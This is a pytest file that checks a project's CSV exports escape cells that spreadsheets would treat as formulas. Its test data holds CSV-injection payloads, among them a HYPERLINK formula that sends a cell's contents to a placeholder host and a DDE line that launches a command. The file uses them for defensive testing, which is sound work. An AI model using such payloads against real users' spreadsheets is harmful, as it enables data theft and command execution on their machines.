"""Exports a spreadsheet cannot run: questions and comments typed to look like formulas (made
up, as a red team sent them) come out of `plw feedback export`, `plw gaps export` and
/admin/gaps.csv as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from admin_support import TOKEN, admin_copy, sign_in
from click.testing import CliRunner
from conftest import HashEmbedder
from fastapi.testclient import TestClient

from plw_assistant.assistant import Assistant
from plw_assistant.cli import cli
from plw_assistant.config import get_settings
from plw_assistant.gaps.report import gap_groups, to_csv
from plw_assistant.spreadsheet import FORMULA_START, safe_cell
from plw_assistant.web.app import create_app

HOSTILE = [
    '=HYPERLINK("http://made-up.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_cell_that_would_be_a_formula_is_text() -> None:
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in ("How?", 3, "", "a=b")] == ["How?", 3, "", "a=b"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_export_holds_a_cell_a_spreadsheet_evaluates(tmp_path: Path) -> None:
    settings = admin_copy(tmp_path)
    with TestClient(create_app(settings, HashEmbedder())) as client:
        for text in HOSTILE:  # declined questions, and "No" votes with a comment
            client.post("/api/ask", json={"question": f"{text} made-up tardigrade question"})
            client.post("/api/ask", json={"question": text})
            client.post(
                "/api/feedback",
                json={"rating": "down", "question": text, "comment": text},
            )
        sign_in(client, TOKEN)
        page = client.get("/admin/gaps.csv")
        assert page.status_code == 200
        exports = {"/admin/gaps.csv": page.text}
    env = {"PLW_CORPUS_DIR": str(settings.corpus_dir), "PLW_INDEX_DIR": str(settings.index_dir)}
    get_settings.cache_clear()
    result = CliRunner().invoke(cli, ["feedback", "export"], env=env, catch_exceptions=False)
    get_settings.cache_clear()
    exports["plw feedback export"] = result.stdout
    # What `plw gaps export` prints, with the hashing embedder the copy was indexed with.
    assistant = Assistant(settings, HashEmbedder())
    assert assistant.gaps is not None
    exports["plw gaps export"] = to_csv(gap_groups(assistant, assistant.gaps))
    for name, text in exports.items():
        cells = _cells(text)
        assert any(c.lstrip("'").startswith(tuple(HOSTILE)) for c in cells), (name, text[:400])
        live = [c for c in cells if c.startswith(FORMULA_START)]
        assert live == [], (name, live)
